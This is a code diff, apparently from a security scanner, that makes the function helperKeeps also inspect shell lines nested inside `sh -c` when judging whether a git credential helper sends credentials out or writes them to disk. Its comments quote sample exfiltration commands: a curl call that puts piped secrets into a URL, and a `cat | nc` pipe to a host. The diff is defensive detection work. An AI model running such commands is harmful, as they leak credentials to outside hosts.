@@ -52,8 +52,14 @@ export const OFF = /^(false|no|off|0)$/i;
  * a sink's words (`!curl "https://x/?$(cat)"`); null when it does neither (`!gh auth
  * git-credential`, `!f() { echo password=$T; }; f`).
  */
-export function helperKeeps(line: string): string | null {
+export function helperKeeps(line: string, depth = 0): string | null {
   for (const cmd of parseShell(line, { home: '', depth: 1 }).commands) {
+    // `sh -c 'cat | nc h p'`: the shell line it runs, read the same way
+    const nested = depth < 4 ? unwrap(cmd).scripts : [];
+    for (const s of nested) {
+      const kept = helperKeeps(s, depth + 1);
+      if (kept) return kept;
+    }
     const written = cmd.redirects.find((r) => /^(&?>>?|>\||<>)$/.test(r.op) && r.target && !/^\/dev\/(null|stdout|stderr|fd\/[12])$/.test(r.target.value));
     if (written?.target && networkPath(written.target.value)) return `sends them to ${written.target.value}`;
     if (written?.target) return `writes them into ${written.target.value}`;
